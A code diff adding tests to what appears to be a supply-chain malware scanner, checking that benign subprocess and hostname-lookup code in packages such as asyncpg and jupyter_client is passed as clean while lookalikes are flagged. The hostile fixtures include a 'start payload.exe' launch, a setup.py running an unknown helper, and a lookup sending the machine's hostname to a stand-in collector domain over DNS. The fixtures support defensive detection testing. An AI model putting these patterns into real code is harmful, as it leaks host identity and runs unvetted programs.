@@ -73,3 +73,42 @@ def test_a_pth_that_only_imports_is_an_import_and_one_that_acts_runs_code(tmp_pa
     assert rules_of(honest) == {"pth-import"} and honest.verdict == "clean", honest.findings
     for found in (acting, decoding):
         assert "pth-exec" in rules_of(found) and found.verdict == "malicious", found.findings
+
+
+def test_a_command_whose_program_is_unknown_does_not_start_with_its_first_argument(tmp_path):
+    # asyncpg runs `pg_ctl start -D ...` with pg_ctl's path found at run time; Windows'
+    # `start payload.exe` written out is still a launch.
+    head = "import subprocess\ndef run(pg_ctl, data):\n    subprocess.run("
+    honest = _scan(tmp_path, "honest", {DEEP: head + "[pg_ctl, 'start', '-D', data])\n"})
+    launch = _scan(tmp_path, "launch", {DEEP: head + "['start', 'payload.exe'])\n"})
+    assert "proc-shell-download" not in rules_of(honest), honest.findings
+    assert "proc-exec" in rules_of(honest) and honest.verdict == "clean"
+    assert "proc-shell-download" in rules_of(launch), launch.findings
+
+
+def test_asking_ldd_for_its_version_in_setup_py_is_configuration(tmp_path):
+    # semgrep's setup.py tells glibc from musl to name its wheel's platform.
+    setup = ("import subprocess\nfrom setuptools import setup\n"
+             "out = subprocess.run({cmd}, capture_output=True).stdout\n"
+             "setup(name='demo', version='1.0')\n")
+    honest = _scan(tmp_path, "honest", {"setup.py": setup.format(cmd="['ldd', '--version']")})
+    running = _scan(tmp_path, "running", {"setup.py": setup.format(cmd="['./helper']")})
+    assert "proc-exec" not in rules_of(honest), honest.findings
+    assert "proc-exec" in rules_of(running), running.findings
+
+
+def test_resolving_the_own_name_on_the_local_link_sends_nothing_away(tmp_path):
+    # jupyter_client finds its addresses: localhost, its own name, and that name on mDNS.
+    head = "import socket\ndef addresses():\n"
+    honest = _scan(tmp_path, "honest", {DEEP: head + (
+        "    local = socket.gethostbyname_ex('localhost')[2]\n"
+        "    name = socket.gethostname()\n"
+        "    public = socket.gethostbyname_ex(name)[2]\n"
+        "    return local + public + socket.gethostbyname_ex(name + '.local')[2]\n")})
+    # The same name as a label of someone's domain reaches that domain's name server.
+    sending = _scan(tmp_path, "sending", {DEEP: head + (
+        "    name = socket.gethostname()\n"
+        "    return socket.gethostbyname_ex(name + '.collector.example.net')[2]\n")})
+    assert not {"exfil-dns", "exfil-host-data", "net-call"} & rules_of(honest), honest.findings
+    assert honest.verdict == "clean"
+    assert "exfil-dns" in rules_of(sending), sending.findings
